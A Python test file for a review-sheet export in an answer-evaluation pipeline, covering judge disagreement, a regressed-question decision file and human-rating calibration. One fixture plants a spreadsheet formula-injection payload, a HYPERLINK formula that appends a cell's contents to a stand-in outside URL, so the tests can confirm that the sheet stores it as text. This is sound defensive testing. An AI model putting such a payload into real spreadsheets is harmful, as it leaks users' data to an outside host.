"""`cube annotate --for-review` (issue 42, item 5): the weekly review sheet holds the regressed
questions of `report/decision.json`, the (question, system) pairs the judges disagree on most and
the run's random sample, in `cube annotate`'s sheet format (CSV + XLSX, blind, never a formula);
filled in and imported, the ratings of the random sample recalibrate the run (PPI) and those of
the items chosen for review are kept apart, since they were chosen on the judges' errors.

A small offline run (demo corpus, BM25, a lenient and a strict rubric judge: they disagree) through
stages 01-03; the decision file is the one the release decision writes (the interface of issue 42).
"""

from __future__ import annotations

import json
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest
import yaml

from cube.config.sheets import FORMULA_START
from cube.run import pipeline
from cube.run.human import human_calibration, human_stage
from cube.run.notebook import open_run
from cube.run.review import (
    REVIEW_KEY,
    SAMPLE,
    export_review,
    judge_spread,
    review_units,
)

PLANTED = '=HYPERLINK("http://x.example/?q="&B2,"Click")'


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("review")
    params = tmp / "review.yaml"
    params.write_text(
        yaml.safe_dump(
            {
                "run": "review",
                "outputs_dir": str(tmp / "out"),
                "cache_path": str(tmp / "cache.sqlite"),
                "corpus": {"n_items": 24, "seed": 2},
                "systems": [{"kind": "builtin", "name": "bm25", "top_n": 3}],
                "judges": [
                    {
                        "name": "lenient",
                        "model": {"provider": "offline", "model": "rubric-lenient"},
                    },
                    {"name": "strict", "model": {"provider": "offline", "model": "rubric-strict"}},
                ],
                "analysis": {"bootstrap": 50, "bounds_of_missed": "all"},
                "audit": {"questions": 0},
                "human": {"sample_size": 4, "seed": 1},
            }
        ),
        encoding="utf-8",
    )
    r = open_run(params)
    for stage in (
        pipeline.corpus_stage,
        pipeline.questions_stage,
        pipeline.answers_stage,
        pipeline.scores_stage,
    ):
        stage(r)
    answers = r.load("answers")
    regressed = sorted(answers["question_id"].astype(str).unique())[:2]
    # outside text that a spreadsheet would run: the sheet must show it as text
    planted = (answers["question_id"].astype(str) == regressed[0]) & (answers["set"] == "rag")
    answers.loc[planted, "answer"] = PLANTED
    r.save("answers", answers)
    r.paths.report.mkdir(parents=True, exist_ok=True)
    decision = {
        "decision": "hold: regression",
        "reasons": ["2 questions regressed"],
        "margin": 5.0,
        "delta_cube": -12.0,
        "delta_ci": [-20.0, -4.0],
        "regressed": [
            {"question_id": q, "text": "?", "baseline_score": 8.0, "score": 2.0} for q in regressed
        ],
    }
    (r.paths.report / "decision.json").write_text(json.dumps(decision), encoding="utf-8")
    return r, regressed, params


def test_judge_spread_is_the_largest_range_across_judges():
    scores = pd.DataFrame(
        {
            "question_id": ["q1"] * 6 + ["q2"] * 3,
            "system": "s",
            "set": "rag",
            "dimension": ["a", "a", "a", "b", "b", "b", "a", "a", "a"],
            "judge": ["j1", "j1", "j2", "j1", "j2", "human", "j1", "j2", "j3"],
            "score": [2.0, 4.0, 9.0, 5.0, 5.0, 0.0, 1.0, None, 4.0],
        }
    )
    spread = judge_spread(scores).set_index("question_id")
    # q1: j1's mean 3 against j2's 9 on `a` (6), 0 on `b`; the human row is no judge
    assert spread.at["q1", "spread"] == 6.0
    assert spread.at["q2", "spread"] == 3.0  # j2's unscored cell left out
    assert judge_spread(scores, ["j1"]).empty  # one judge: no range


def test_the_review_sheet_holds_the_regressed_the_disagreeing_and_the_sample(run):
    r, regressed, _ = run
    files, report = export_review(r.params, r.paths, disagreements=3)
    names = {p.name for p in files}
    assert {
        "review_sheet.csv",
        "review_sheet.xlsx",
        "review_sheet_criteria.csv",
        REVIEW_KEY,
    } <= names
    key = pd.read_csv(r.paths.annotation / REVIEW_KEY, dtype=str, keep_default_na=False)
    reasons = key.groupby("question_id")["reason"].first()
    for q in regressed:
        assert "regressed" in reasons[q]
    spread = judge_spread(r.load("scores"))
    top = spread.sort_values(["spread", "question_id"], ascending=[False, True]).head(3)
    assert set(top["question_id"]) <= set(
        key.loc[key["reason"].str.contains("disagreement"), "question_id"]
    )
    assert report["regressed"] == 2 and report["disagreement"] == 3 and report["sample"] == 4
    # every answer set of each chosen pair, behind opaque R-ids, in a shuffled order
    assert (key.groupby(["question_id", "system"]).size() == 3).all()
    assert key["item_id"].str.match(r"^R\d{3}$").all()
    assert key["item_id"].tolist() == sorted(key["item_id"])
    units, _ = review_units(r.params, r.paths, r.load("answers"), r.load("scores"), 3)
    assert len(key) == 3 * len(units)


def test_no_cell_of_the_review_sheet_is_a_formula(run):
    r, _, _ = run
    export_review(r.params, r.paths, disagreements=3)
    book = openpyxl.load_workbook(r.paths.annotation / "review_sheet.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in book["ratings"][1]]
    shown = {
        row[header.index("answer")]
        for row in book["ratings"].iter_rows(min_row=2, values_only=True)
    }
    assert PLANTED in shown  # the text itself, typed as a string
    for name in ("review_sheet.csv", REVIEW_KEY):
        raw = pd.read_csv(
            r.paths.annotation / name, dtype=str, keep_default_na=False, encoding="utf-8-sig"
        )
        assert not [c for c in raw.to_numpy().ravel() if c.startswith(FORMULA_START)], name


def test_filled_review_ratings_recalibrate_from_the_random_sample_alone(run, tmp_path):
    r, _, _ = run
    export_review(r.params, r.paths, disagreements=3)
    sheet = pd.read_csv(
        r.paths.annotation / "review_sheet.csv",
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )
    for d in r.params.dimension_names():
        sheet[f"{d}.total"] = "6"
    sheet["rater"] = "ann"
    filled = r.paths.annotation / "review_sheet_filled.csv"
    sheet.to_csv(filled, index=False, encoding="utf-8-sig")
    key = pd.read_csv(r.paths.annotation / REVIEW_KEY, dtype=str, keep_default_na=False)
    # the filled file is named apart: the key is named in params, as for any sheet
    params = r.params.model_copy(
        update={
            "human": r.params.human.model_copy(
                update={"ratings": str(filled), "key": str(r.paths.annotation / REVIEW_KEY)}
            )
        }
    )
    r2 = type(r)(params=params, paths=r.paths, params_path=r.params_path)
    human, report = human_stage(r2)
    sampled = key[key["reason"].str.split(";").map(lambda x: SAMPLE in x)]
    assert len(human[["question_id", "system", "set"]].drop_duplicates()) == len(sampled)
    assert report["review_only"] == (len(key) - len(sampled)) * len(r.params.dimension_names())
    kept = pd.read_parquet(r.paths.data / "human_review.parquet")
    assert set(kept["question_id"].astype(str)) == set(
        key.loc[~key.index.isin(sampled.index), "question_id"]
    )
    # a sheet filled in place (review_sheet.xlsx) is read through the key beside it
    from cube.run.human import _ratings_key

    in_place = r.paths.annotation / "review_sheet.xlsx"
    assert _ratings_key(r, in_place) == r.paths.annotation / REVIEW_KEY
    calibrated = human_calibration(r2, imported=(human, report))
    assert calibrated is not None
    table, per, heads = calibrated
    assert heads["bm25"]["n_ratings"] == len(human)


def test_cli_for_review_prints_the_sheet_and_what_it_holds(run):
    r, _, params = run
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "cube.cli",
            "annotate",
            str(params),
            "--for-review",
            "--disagreements",
            "2",
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "review_sheet.xlsx" in done.stdout
    assert "2 regressed" in done.stdout and "2 of largest judge spread" in done.stdout


def _with_human(r, ratings, key):
    params = r.params.model_copy(
        update={
            "human": r.params.human.model_copy(update={"ratings": str(ratings), "key": str(key)})
        }
    )
    return type(r)(params=params, paths=r.paths, params_path=r.params_path)


def test_a_plain_key_in_params_still_keeps_review_only_items_apart(run, tmp_path):
    r, _, _ = run
    export_review(r.params, r.paths, disagreements=3)
    sheet = pd.read_csv(
        r.paths.annotation / "review_sheet.csv",
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )
    for d in r.params.dimension_names():
        sheet[f"{d}.total"] = "6"
    sheet["rater"] = "ann"
    filled = r.paths.annotation / "review_sheet_filled.csv"
    sheet.to_csv(filled, index=False, encoding="utf-8-sig")
    key = pd.read_csv(r.paths.annotation / REVIEW_KEY, dtype=str, keep_default_na=False)
    plain_key = tmp_path / "annotation_key.csv"  # a key without the `reason` column
    key.drop(columns="reason").to_csv(plain_key, index=False, encoding="utf-8-sig")
    sampled = key["reason"].str.split(";").map(lambda x: SAMPLE in x)
    assert (~sampled).any()
    human, report = human_stage(_with_human(r, filled, plain_key))
    assert len(human[["question_id", "system", "set"]].drop_duplicates()) == sampled.sum()
    assert report["review_only"] == (~sampled).sum() * len(r.params.dimension_names())
    apart = r.paths.data / "human_review.parquet"
    assert apart.exists()
    # a later import keeping nothing apart leaves no earlier import's items apart
    only_sample = tmp_path / "sample_ratings.csv"
    sheet[sampled.to_numpy()].to_csv(only_sample, index=False, encoding="utf-8-sig")
    human, report = human_stage(_with_human(r, only_sample, plain_key))
    assert "review_only" not in report and not apart.exists()
    assert len(human[["question_id", "system", "set"]].drop_duplicates()) == sampled.sum()
